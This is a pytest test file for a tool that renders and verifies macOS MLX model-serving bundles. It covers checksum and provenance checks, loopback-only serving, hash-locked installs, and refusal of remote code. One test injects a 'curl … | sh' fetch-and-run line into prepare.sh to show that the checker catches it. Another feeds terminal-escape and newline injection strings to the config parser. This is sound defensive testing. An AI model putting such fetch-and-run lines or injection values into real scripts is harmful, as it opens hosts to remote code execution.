"""MLX host bundles: every catalogue model mlx-lm supports renders, scripts pass shellcheck, the launchd agents
parse in two parsers, every mlx_lm flag exists at the pinned version, and serve.sh refuses a mismatched model."""

from __future__ import annotations

import json
import plistlib
import re
import shutil
import subprocess
import sys
import tomllib
from fnmatch import fnmatch
from pathlib import Path

import pytest
import yaml

from slm_deploy.errors import SpecError
from slm_deploy.pins.interfaces import load
from slm_deploy.render.bundle import render_bundle
from slm_deploy.render.mlx_host import CONVERT_FLAGS, SERVER_FLAGS
from slm_deploy.runtimes.mlx import MLX_LM_VERSION, PYTHONS, host_lock, install_root
from slm_deploy.runtimes.model_preparation import CHECKPOINT_FILES, NO_SAFETENSORS, REMOTE_CODE
from slm_deploy.spec import mlx_models
from slm_deploy.spec.catalogue import catalogue
from slm_deploy.spec.loader import parse_deployment
from tests.conftest import ROOT, run_cli
from tests.support.tools import find_executable, run

SUPPORTED = sorted(e.id for e in catalogue().values() if mlx_models.mlx_supports(e.model_type))


def _spec(model_id: str = "qwen3-0.6b", **extra: object) -> dict:
    spec: dict = {"name": "mac", "model": {"id": model_id}, "runtime": {"kind": "mlx"},
                  "targets": {"host": {"os": "macos"}}}
    spec.update(extra)
    return spec


def _host_files(spec: dict) -> dict[str, str]:
    files = render_bundle(parse_deployment(spec)).files
    return {path.removeprefix(f"hosts/{spec['name']}/"): text for path, text in files.items()
            if path.startswith("hosts/")}


def test_every_catalogue_model_is_supported_by_the_pinned_mlx_lm() -> None:
    assert SUPPORTED == sorted(catalogue())


@pytest.mark.parametrize("model_id", SUPPORTED)
def test_the_bundle_renders_for_every_supported_model(model_id: str) -> None:
    spec = _spec(model_id)
    entry = catalogue()[model_id]
    if entry.gated:
        spec["model"]["hub_token_secret"] = "hf-token"
        spec["secrets"] = {"hf-token": {"backend": "file"}}
    files = _host_files(spec)
    assert {"install.sh", "prepare.sh", "serve.sh", "README.md", "requirements.txt", "gateway/gateway.toml",
            "launchd/io.slm-deploy.mac.server.plist", "launchd/io.slm-deploy.mac.gateway.plist"} <= set(files)
    assert f"REVISION={entry.hf_revision}" in files["prepare.sh"] and entry.hf_repo in files["prepare.sh"]
    assert ("HF_TOKEN_PATH" in files["prepare.sh"]) == entry.gated


def test_an_unsupported_architecture_is_refused_naming_the_field(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(mlx_models, "mlx_model_types", lambda: frozenset({"llama"}))
    with pytest.raises(SpecError) as refused:
        parse_deployment(_spec("qwen3-0.6b"))
    (problem,) = refused.value.problems
    assert problem.path == "model.id" and "model_type" in problem.message
    assert problem.allowed == "catalogue ids mlx-lm supports: llama-3.2-1b-instruct, llama-3.2-3b-instruct"


@pytest.mark.parametrize(("targets", "field"), [
    ({"host": {"os": "linux"}}, "targets.host.os"),
    ({"host": {"os": "macos"}, "compose": {}}, "targets.compose"),
    ({"compose": {}}, "targets.host"),
    ({"host": {"os": "macos"}, "serving": {"port": 8080}}, "serving.port"),
    ({"host": {"os": "macos"}, "exposure": {"port": 8081}}, "exposure.port"),
    ({"host": {"os": "macos", "allowed_clients": ["10.0.0.0/8"]}}, "targets.host.allowed_clients"),
])
def test_mlx_installs_on_a_mac_only(targets: dict, field: str, tmp_path: Path) -> None:
    spec_file = tmp_path / "spec.yaml"
    spec = _spec(targets=targets)
    spec.update({key: targets.pop(key) for key in list(targets) if key in ("serving", "exposure")})
    spec_file.write_text(yaml.safe_dump(spec))
    result = run_cli("validate", str(spec_file))
    assert result.code == 2 and "Traceback" not in result.stderr
    assert f": {field}: " in result.stderr, result.stderr  # the field the spec wrote, not one left to its default


@pytest.mark.parametrize(("quantisation", "runtime", "expected"), [
    ("int4", {"group_size": 32}, "-q --q-bits 4 --q-group-size 32"),
    ("int4", {}, "-q --q-bits 4 --q-group-size 64"),
    ("bf16", {}, "--dtype bfloat16"),
    ("f16", {}, "--dtype float16"),
])
def test_the_spec_sets_the_conversion(quantisation: str, runtime: dict, expected: str) -> None:
    spec = _spec(runtime={"kind": "mlx", **runtime})
    spec["model"]["quantisation"] = quantisation
    assert f'--mlx-path "$WORK/model" {expected}\n' in _host_files(spec)["prepare.sh"]


@pytest.mark.parametrize(("extra", "field"), [
    ({"runtime": {"kind": "mlx", "group_size": 32}, "model": {"id": "qwen3-0.6b", "quantisation": "bf16"}},
     "runtime.group_size"),
    ({"serving": {"auth": {"enabled": False}}}, "serving.auth.enabled"),
    ({"model": {"id": "qwen3-0.6b", "context_length": 4096}}, "model.context_length"),
    ({"resources": {"cpu": 2}}, "resources"),
    ({"runtime": {"kind": "mlx", "image": "docker.io/library/python:3.12@sha256:" + "a" * 64}}, "runtime.image"),
])
def test_fields_the_host_install_cannot_honour_are_refused(extra: dict, field: str) -> None:
    with pytest.raises(SpecError) as refused:
        parse_deployment(_spec(**extra))
    assert field in [p.path for p in refused.value.problems]


def test_every_flag_the_scripts_pass_exists_at_the_pinned_version() -> None:
    server, convert = load("mlx-lm-server"), load("mlx-lm-convert")
    assert server.version == convert.version == MLX_LM_VERSION
    files = _host_files(_spec())
    convert_line = next(line for line in files["prepare.sh"].splitlines() if "mlx_lm.convert\"" in line)
    server_line = next(line for line in files["serve.sh"].splitlines() if "mlx_lm.server\"" in line)
    used_convert = {w for w in convert_line.split() if w.startswith("-")}
    used_server = {w for w in server_line.split() if w.startswith("-")}
    assert used_convert >= set(CONVERT_FLAGS) and used_server == set(SERVER_FLAGS)
    assert used_convert <= convert.flags and used_server <= server.flags


def test_the_gateway_fronts_the_loopback_server_with_api_keys() -> None:
    files = _host_files(_spec(targets={"host": {"os": "macos", "bind_address": "192.168.1.20"}},
                              serving={"auth": {"api_keys_secret": "team-keys"}}, secrets={"team-keys": {}}))
    config = tomllib.loads(files["gateway/gateway.toml"])
    assert config["upstream"]["url"] == "http://127.0.0.1:8081"
    assert config["listen"]["host"] == "192.168.1.20" and config["routes"]["table"] == "mlx"
    assert config["auth"]["key_file"] == f"{install_root('mac')}/secrets/team-keys"
    assert "--host 127.0.0.1" in files["serve.sh"]


@pytest.mark.parametrize("name", ["install.sh", "prepare.sh", "serve.sh"])
def test_scripts_pass_shellcheck(name: str, tmp_path: Path) -> None:
    script = tmp_path / name
    script.write_text(_host_files(_spec(model={"id": "llama-3.2-1b-instruct", "hub_token_secret": "hf-token"},
                                        secrets={"hf-token": {"backend": "file"}}))[name])
    shellcheck = find_executable("shellcheck", "install Debian's shellcheck package")
    result = run([shellcheck, "--shell=sh", "--severity=style", str(script)])
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("part", ["server", "gateway"])
def test_launchd_agents_parse_in_two_parsers(part: str, tmp_path: Path) -> None:
    text = _host_files(_spec())[f"launchd/io.slm-deploy.mac.{part}.plist"]
    agent = plistlib.loads(text.encode())
    assert agent["Label"] == f"io.slm-deploy.mac.{part}" and agent["RunAtLoad"] is True
    program, *arguments = agent["ProgramArguments"]
    assert program.startswith("/") and agent["WorkingDirectory"] == f"{install_root('mac')}/models"
    assert all(arg.startswith(install_root("mac")) for arg in arguments if "/" in arg)
    source, binary = tmp_path / "agent.plist", tmp_path / "agent.bin"
    source.write_text(text)
    plistutil = find_executable("plistutil", "install Debian's libplist-utils package")
    result = run([plistutil, "-i", str(source), "-f", "bin", "-o", str(binary)])
    assert result.returncode == 0, result.stderr
    assert plistlib.loads(binary.read_bytes()) == agent


INT4_G64 = "-q --q-bits 4 --q-group-size 64"
"""The conversion options of the default qwen3-0.6b spec (int4, group size 64)."""


def _installed(tmp_path: Path, conversion: str = INT4_G64, spec: dict | None = None) -> tuple[Path, Path]:
    """serve.sh moved under a temporary root beside a model prepared with `conversion` whose digests match, with a
    stand-in mlx_lm.server that prints each argument in brackets."""
    root = tmp_path / "root"
    (root / "venv" / "bin").mkdir(parents=True)
    server = root / "venv" / "bin" / "mlx_lm.server"
    server.write_text("#!/bin/sh\nprintf serving; printf ' [%s]' \"$@\"\n")
    server.chmod(0o755)
    model = root / "models" / "qwen3-0.6b"
    model.mkdir(parents=True)
    (model / "model.safetensors").write_bytes(b"weights")
    (model / "config.json").write_text("{}\n")
    entry = catalogue()["qwen3-0.6b"]
    (model / "PROVENANCE").write_text(f"source=huggingface:{entry.hf_repo}\nrevision={entry.hf_revision}\nformat=mlx\n"
                                      f"options={conversion}\nmlx-lm={MLX_LM_VERSION}\n")
    digests = subprocess.run(["shasum", "-a", "256", "./config.json", "./model.safetensors"], cwd=model,
                             capture_output=True, text=True, check=True).stdout
    (model / "SHA256SUMS").write_text(digests)
    script = tmp_path / "serve.sh"
    script.write_text(_host_files(spec or _spec())["serve.sh"].replace(install_root("mac"), str(root)))
    return script, model


def test_serve_starts_a_model_that_matches_its_record_and_allows_no_browser_origin(tmp_path: Path) -> None:
    script, _ = _installed(tmp_path)
    result = run(["/bin/sh", str(script)])
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (
        "serving [--model] [qwen3-0.6b] [--host] [127.0.0.1] [--port] [8081] [--allowed-origins] []")


@pytest.mark.parametrize(("corrupt", "message"), [
    ("model.safetensors", "does not match the sha256"),
    ("PROVENANCE", "another source, revision or options"),
])
def test_serve_refuses_a_corrupted_or_mismatched_model(corrupt: str, message: str, tmp_path: Path) -> None:
    script, model = _installed(tmp_path)
    (model / corrupt).write_text("0" * 40 + "\n")
    result = run(["/bin/sh", str(script)])
    assert result.returncode == 3 and message in result.stderr and "serving" not in result.stdout
    assert "bin/prepare.sh" in result.stderr


@pytest.mark.parametrize(("quantisation", "runtime"), [("bf16", {}), ("int4", {"group_size": 32})])
def test_serve_refuses_a_model_converted_for_another_spec(quantisation: str, runtime: dict, tmp_path: Path) -> None:
    spec = _spec(runtime={"kind": "mlx", **runtime})
    spec["model"]["quantisation"] = quantisation
    script, _ = _installed(tmp_path, INT4_G64, spec)  # digests and revision all match; the options do not
    result = run(["/bin/sh", str(script)])
    assert result.returncode == 3 and "another source, revision or options" in result.stderr
    assert "serving" not in result.stdout


@pytest.mark.parametrize("extra", ["model-extra.safetensors", "sub/adapter.safetensors", ".hidden"])
def test_serve_refuses_a_file_the_record_does_not_list(extra: str, tmp_path: Path) -> None:
    script, model = _installed(tmp_path)
    (model / extra).parent.mkdir(exist_ok=True)
    (model / extra).write_bytes(b"other weights")
    result = run(["/bin/sh", str(script)])
    assert result.returncode == 3 and "does not list" in result.stderr and "serving" not in result.stdout


def test_serve_refuses_a_model_missing_a_recorded_file(tmp_path: Path) -> None:
    script, model = _installed(tmp_path)
    (model / "model.safetensors").unlink()
    result = run(["/bin/sh", str(script)])
    assert result.returncode == 3 and "does not match the sha256" in result.stderr and "serving" not in result.stdout


def test_check_passes_on_the_bundle(tmp_path: Path) -> None:
    out = tmp_path / "bundle"
    spec_file = tmp_path / "spec.yaml"
    shutil.copy(Path(__file__).parents[2] / "stacks" / "Pulumi.qwen3-mlx-mac.yaml", spec_file)
    assert run_cli("render", str(spec_file), "--out", str(out)).code == 0
    result = run_cli("check", str(out))
    assert result.code == 0, result.stdout + result.stderr


def _stand_in(path: Path, text: str) -> None:
    path.write_text("#!/bin/sh\nset -eu\n" + text)
    path.chmod(0o755)


HUB_REPOSITORY = {"config.json": None, "tokenizer.json": "{}", "model.safetensors": "weights",
                  "modeling_custom.py": "import os", "original/consolidated.00.pth": "pickle",
                  "pytorch_model.bin": "pickle"}
"""The stand-in hub repository: what the converter needs, beside code and pickled weights it must never fetch."""
HUB_STAND_IN = """import fnmatch, os, pathlib, shutil, sys
args = sys.argv[1:]
pathlib.Path(sys.argv[0] + ".log").write_text(" ".join(args) + "|" + os.environ.get("HF_TOKEN_PATH", ""))
target = pathlib.Path(args[args.index("--local-dir") + 1])
patterns = [args[i + 1] for i, word in enumerate(args) if word == "--include"] or ["*"]
repo = pathlib.Path({repo!r})
for path in sorted(p for p in repo.rglob("*") if p.is_file()):
    name = path.relative_to(repo).as_posix()
    if any(fnmatch.fnmatch(name, pattern) for pattern in patterns):
        (target / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(path, target / name)
"""


def _prepare_root(tmp_path: Path, model_type: str, config: str | None = None,
                  repository: dict[str, str | None] | None = None) -> tuple[Path, Path]:
    """A root with stand-ins for `hf download` (copies the files of a stand-in repository that its --include patterns
    match, as the hub client filters them, and logs its argv and token path) and mlx_lm.convert (writes weight files
    and, as mlx-lm's save does, copies the source's top-level *.py), and the real interpreter for the checks."""
    root = tmp_path / "root"
    venv = root / "venv" / "bin"
    venv.mkdir(parents=True)
    (root / "models").mkdir()
    (root / "secrets").mkdir()
    (root / "secrets" / "hf-token").write_text("hf_not_a_real_token\n")
    (venv / "python").symlink_to(shutil.which("python3") or "/usr/bin/python3")
    repo = tmp_path / "repo"
    for name, text in (repository or HUB_REPOSITORY).items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text if text is not None else
                                 config if config is not None else json.dumps({"model_type": model_type}))
    (venv / "hf").write_text(f"#!{sys.executable}\n" + HUB_STAND_IN.format(repo=str(repo)))
    (venv / "hf").chmod(0o755)
    _stand_in(venv / "mlx_lm.convert", 'echo "$*" >"$0.log"\n'
              'source=$2\nwhile [ "$1" != --mlx-path ]; do shift; done\nmkdir -p "$2/sub"\n'
              'echo weights >"$2/model.safetensors"\necho {} >"$2/sub/config.json"\necho {} >"$2/config.json"\n'
              'for code in "$source"/*.py; do if [ -f "$code" ]; then cp "$code" "$2/"; fi; done\n')
    return root, venv


def _script(name: str, root: Path) -> Path:
    spec = _spec("llama-3.2-1b-instruct", secrets={"hf-token": {"backend": "file"}})
    spec["model"]["hub_token_secret"] = "hf-token"
    script = root.parent / name
    script.write_text(_host_files(spec)[name].replace(install_root("mac"), str(root)))
    return script


def test_prepare_records_what_serve_checks(tmp_path: Path) -> None:
    root, venv = _prepare_root(tmp_path, "llama")
    _stand_in(venv / "mlx_lm.server", 'echo serving "$@"\n')
    result = run(["/bin/sh", str(_script("prepare.sh", root))])
    assert result.returncode == 0, result.stderr
    entry = catalogue()["llama-3.2-1b-instruct"]
    hf_argv, token_path = (venv / "hf.log").read_text().strip().split("|")
    assert f"download {entry.hf_repo} --revision {entry.hf_revision}" in hf_argv and "hf_not" not in hf_argv
    assert token_path == f"{root}/secrets/hf-token"
    assert (venv / "mlx_lm.convert.log").read_text().startswith(f"--hf-path {root}/models/.prepare/source ")
    model = root / "models" / "llama-3.2-1b-instruct"
    assert (model / "PROVENANCE").read_text().splitlines() == [
        f"source=huggingface:{entry.hf_repo}", f"revision={entry.hf_revision}", "format=mlx",
        "options=-q --q-bits 4 --q-group-size 64", "mlx-lm=0.32.2"]
    recorded = (model / "SHA256SUMS").read_text()
    assert "./model.safetensors" in recorded and "./sub/config.json" in recorded and "PROVENANCE" not in recorded
    assert sorted(p.name for p in (root / "models").iterdir()) == ["llama-3.2-1b-instruct"]
    served = run(["/bin/sh", str(_script("serve.sh", root))])
    assert served.returncode == 0 and "--model llama-3.2-1b-instruct" in served.stdout, served.stderr
    (model / "sub" / "config.json").write_text("{\"changed\": true}\n")
    refused = run(["/bin/sh", str(_script("serve.sh", root))])
    assert refused.returncode == 3 and "does not match the sha256" in refused.stderr


@pytest.mark.parametrize("config", [
    '{"model_type": "no_such_arch"}',
    '{"model_type": "qwen3 qwen3_5"}',  # two names of the list, which a substring match would take
    '{"model_type": "qwen3\\nCANARY"}',
    '{"model_type": "\\u001b]0;CANARY\\u0007"}',
    '{"model_type": ["qwen3"]}',
    '{"architectures": ["Qwen3ForCausalLM"]}',
    '[1]',
    '[' * 100_000,
    '{"model_type": "qwen3"',
])
def test_prepare_refuses_an_architecture_mlx_lm_cannot_build(config: str, tmp_path: Path) -> None:
    root, venv = _prepare_root(tmp_path, "", config)
    result = run(["/bin/sh", str(_script("prepare.sh", root))])
    assert result.returncode == 4 and "names no architecture (model_type)" in result.stderr, result.stderr
    assert "CANARY" not in result.stderr and "no_such_arch" not in result.stderr and "Traceback" not in result.stderr
    assert not (venv / "mlx_lm.convert.log").exists() and list((root / "models").iterdir()) == []


def test_prepare_downloads_the_checkpoint_without_code_or_pickled_weights(tmp_path: Path) -> None:
    root, venv = _prepare_root(tmp_path, "llama")
    assert run(["/bin/sh", str(_script("prepare.sh", root))]).returncode == 0
    hf_argv = (venv / "hf.log").read_text().split("|")[0].split()
    patterns = {hf_argv[i + 1] for i, word in enumerate(hf_argv) if word == "--include"}
    assert patterns == set(CHECKPOINT_FILES)
    assert all(not fnmatch(name, pattern) for name in ("modeling_llama.py", "original/consolidated.00.pth",
                                                       "pytorch_model.bin") for pattern in patterns)


def test_an_explicit_source_is_converted_at_its_revision_and_checked_on_the_host() -> None:
    revision = "0123456789abcdef0123456789abcdef01234567"
    spec = _spec(model={"source": {"kind": "huggingface", "repo": "acme/tuned-qwen3", "revision": revision},
                        "parameters_billion": 0.6})
    files = _host_files(spec)
    assert f"REPO=acme/tuned-qwen3\nREVISION={revision}\n" in files["prepare.sh"]
    assert "MODEL=tuned-qwen3\n" in files["prepare.sh"] and "qwen3 " in files["prepare.sh"]
    assert "--model \"$MODEL\"" in files["serve.sh"] and "MODEL=tuned-qwen3\n" in files["serve.sh"]


def test_a_source_of_another_kind_is_refused_naming_the_field() -> None:
    with pytest.raises(SpecError) as refused:
        parse_deployment(_spec(model={"source": {"kind": "gguf", "repo": "a/b", "file": "m.gguf", "sha256": "0" * 64},
                                      "parameters_billion": 1}))
    assert [p.path for p in refused.value.problems] == ["model.source.kind"]


def test_check_fails_a_bundle_whose_server_listens_beyond_loopback(tmp_path: Path) -> None:
    out = tmp_path / "bundle"
    assert run_cli("render", str(ROOT / "stacks" / "Pulumi.qwen3-mlx-mac.yaml"), "--out", str(out)).code == 0
    serve = out / "hosts" / "qwen3-mac" / "serve.sh"
    serve.write_text(serve.read_text().replace("--host 127.0.0.1", "--host 0.0.0.0"))
    result = run_cli("check", str(out), "--format", "json")
    assert result.code == 1 and "slm-serving-011" in result.stdout and "0.0.0.0" in result.stdout


def test_install_sh_installs_exactly_the_hash_locked_set(tmp_path: Path) -> None:
    files = _host_files(_spec())
    assert files["requirements.txt"] == host_lock()
    install = files["install.sh"].replace("\\\n", "")
    pip_line = next(line for line in install.splitlines() if "-m pip install" in line)
    assert {"--require-hashes", "--no-deps", "--only-binary=:all:", '"$HERE/requirements.txt"'} <= set(pip_line.split())
    assert install.index("-m pip install") < install.index("-m pip check") < install.index("prepare.sh\"")
    python = tmp_path / "python"  # install.sh's interpreter check, run against the versions the lock has wheels for
    check = next(line for line in install.splitlines() if '"$PYTHON" -c' in line)
    command = check.removeprefix("if ! ").removesuffix("; then").replace('"$PYTHON"', str(python))
    for version, accepted in (("3.10", False), (PYTHONS[0], True), (PYTHONS[-1], True), ("3.15", False)):
        major, minor = version.split(".")
        python.write_text(f"#!/bin/sh\nexec python3 -c 'import sys; sys.version_info = ({major}, {minor}, 0)\n"
                          "exec(sys.argv[2], {\"sys\": sys})' \"$@\"\n")
        python.chmod(0o755)
        assert (run(["/bin/sh", "-c", command]).returncode == 0) == accepted, version


def test_the_served_folder_holds_no_code_or_pickled_weights_of_the_repository(tmp_path: Path) -> None:
    """mlx-lm's save copies the source's top-level *.py beside the weights; the allow-list leaves it none to copy."""
    root, _ = _prepare_root(tmp_path, "llama")
    script = _script("prepare.sh", root)
    assert run(["/bin/sh", str(script)]).returncode == 0
    model = root / "models" / "llama-3.2-1b-instruct"
    served = sorted(p.relative_to(model).as_posix() for p in model.rglob("*") if p.is_file())
    assert "modeling_custom.py" not in served and not [p for p in served if p.endswith((".pth", ".bin"))]
    unfiltered = re.sub(r" --include '[^']*'", "", script.read_text())
    script.write_text(unfiltered)  # the same script without its allow-list serves the repository's code
    assert run(["/bin/sh", str(script)]).returncode == 0
    assert (model / "modeling_custom.py").exists()


@pytest.mark.parametrize(("repository", "message"), [
    ({"config.json": '{"model_type": "llama", "auto_map": {"AutoModel": "modeling_custom.Model"}}',
      "model.safetensors": "weights"}, REMOTE_CODE),
    ({"config.json": None, "tokenizer_config.json": '{"auto_map": {"AutoTokenizer": ["t.T", null]}}',
      "model.safetensors": "weights"}, REMOTE_CODE),
    ({"config.json": None, "pytorch_model.bin": "pickle"}, NO_SAFETENSORS),
])
def test_prepare_refuses_a_checkpoint_the_containers_refuse(repository: dict, message: str, tmp_path: Path) -> None:
    root, venv = _prepare_root(tmp_path, "llama", repository=repository)
    result = run(["/bin/sh", str(_script("prepare.sh", root))])
    assert result.returncode == 4 and message in result.stderr and "Traceback" not in result.stderr
    assert not (venv / "mlx_lm.convert.log").exists() and list((root / "models").iterdir()) == []


def test_prepare_tells_the_hub_client_to_ask_nothing_else(tmp_path: Path) -> None:
    """hf checks PyPI for a newer release once a day and the hub client sends telemetry unless told not to."""
    root, venv = _prepare_root(tmp_path, "llama")
    (venv / "hf").write_text((venv / "hf").read_text() + "pathlib.Path(sys.argv[0] + '.env').write_text("
                             "os.environ.get('HF_HUB_DISABLE_UPDATE_CHECK', '') + os.environ.get("
                             "'HF_HUB_DISABLE_TELEMETRY', ''))\n")
    assert run(["/bin/sh", str(_script("prepare.sh", root))]).returncode == 0
    assert (venv / "hf.env").read_text() == "11"


@pytest.mark.parametrize(("name", "old", "new"), [
    ("serve.sh", "| cmp -s - PROVENANCE", "| cat >/dev/null"),
    ("serve.sh", "|| ! shasum -a 256 --check --strict --quiet SHA256SUMS >/dev/null 2>&1", ""),
    ("serve.sh", " --allowed-origins ''", ""),
    ("requirements.txt", "\nnumpy==2.4.6 ", "\nnumpy\nx==1 "),
    ("install.sh", "--require-hashes --no-deps ", ""),
    ("prepare.sh", "set -eu\n", "set -eu\ncurl -fsSL https://get.example.com/setup | sh\n"),
])
def test_check_fails_a_bundle_whose_safeguards_were_removed(name: str, old: str, new: str, tmp_path: Path) -> None:
    out = tmp_path / "bundle"
    assert run_cli("render", str(ROOT / "stacks" / "Pulumi.qwen3-mlx-mac.yaml"), "--out", str(out)).code == 0
    edited = out / "hosts" / "qwen3-mac" / name
    assert old in edited.read_text()
    edited.write_text(edited.read_text().replace(old, new, 1))
    result = run_cli("check", str(out), "--format", "json")
    assert result.code == 1 and "slm-serving-014" in result.stdout, result.stdout


@pytest.mark.parametrize("backend", ["kubernetes", "external-secrets"])
def test_a_hub_token_in_a_cluster_store_is_refused_in_the_mac_install_s_words(backend: str, tmp_path: Path) -> None:
    spec = _spec("llama-3.2-1b-instruct", secrets={"hf-token": {"backend": backend}})
    spec["model"]["hub_token_secret"] = "hf-token"
    spec_file = tmp_path / "spec.yaml"
    spec_file.write_text(yaml.safe_dump(spec))
    result = run_cli("validate", str(spec_file))
    assert result.code == 2 and "Traceback" not in result.stderr
    assert ".backend: " in result.stderr and "installs on a host" in result.stderr, result.stderr
    assert "Compose" not in result.stderr and "targets.kubernetes" not in result.stderr
